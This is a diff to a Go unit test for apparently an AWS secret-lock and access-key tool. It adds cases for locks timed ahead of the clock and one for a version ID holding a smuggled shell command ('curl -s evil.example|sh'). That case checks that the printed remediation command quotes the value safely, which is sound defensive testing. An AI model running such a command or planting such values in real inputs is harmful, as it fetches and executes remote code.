@@ -21,6 +21,7 @@ func TestDecide(t *testing.T) {
 	both := []AccessKey{old, young}
 	lockOf := newIntent("ada", now.Add(-time.Hour), "0a1b2c", []AccessKey{old})
 	bobs := newIntent("bob", now.Add(-time.Hour), "3d4e5f", nil)
+	ahead := func(d time.Duration) intent { return newIntent("ada", now.Add(d), "0a1b2c", nil) }
 
 	for _, c := range []struct {
 		name  string
@@ -36,6 +37,8 @@ func TestDecide(t *testing.T) {
 		{name: "an ARN of no secret, two keys", s: situation{holds: notThere, keys: both}, code: SecretUnavailable},
 
 		{name: "a live lock, delivered already", s: situation{lock: live, lockOf: lockOf, keys: []AccessKey{old}, holds: ours, holdsKey: k1, where: listed}, code: InProgress, names: []string{"2026-11-23T08:00:00Z"}},
+		{name: "a live lock, two minutes ahead of us", s: situation{lock: live, lockOf: ahead(120 * time.Second)}, code: InProgress, names: []string{"may be at work until"}},
+		{name: "a live lock from the future", s: situation{lock: live, lockOf: ahead(121 * time.Second)}, code: InProgress, names: []string{"is not yet", "--remove-from-version-id " + ahead(121*time.Second).versionID()}},
 		{name: "our key, known but not listed, dead lock with a suspect", s: situation{holds: ours, holdsKey: k3, where: known, lock: dead, lockOf: lockOf, keys: both, suspects: both[1:]}, code: InProgress, names: []string{k3}},
 
 		{name: "a dead lock, a suspect on record", s: situation{lock: dead, lockOf: lockOf, keys: both, suspects: both[1:], made: k2, recorded: suspect}, want: takeOver, names: []string{k2}},
@@ -66,6 +69,8 @@ func TestDecide(t *testing.T) {
 
 		{name: "another's dead lock", s: situation{lock: others, lockOf: bobs}, code: SecretInUse, names: []string{"iamkeys/3d4e5f", bobs.versionID(), "delete no key that a version here is named for"}},
 		{name: "a lock that no create left", s: situation{lock: others, secret: SecretDescription{Versions: map[string][]string{"somebody-elses": {"iamkeys-lock"}}}}, code: SecretInUse, names: []string{"--remove-from-version-id somebody-elses"}},
+		{name: "a lock on a version whose ID is a trap", s: situation{lock: others, secret: SecretDescription{Versions: map[string][]string{"$(curl -s evil.example|sh);'aaaaaaa": {"iamkeys-lock"}}}}, code: SecretInUse,
+			names: []string{`--remove-from-version-id '$(curl -s evil.example|sh);'\''aaaaaaa'`}},
 		{name: "another user's secret", s: situation{holds: anothers}, code: SecretInUse},
 		{name: "another user's secret, overwrite", s: situation{holds: anothers, overwrite: true}, code: SecretInUse},
 		{name: "our key, another's by now, overwrite", s: situation{holds: ours, holdsKey: k3, where: elsewhere, overwrite: true}, code: SecretInUse, names: []string{k3}},
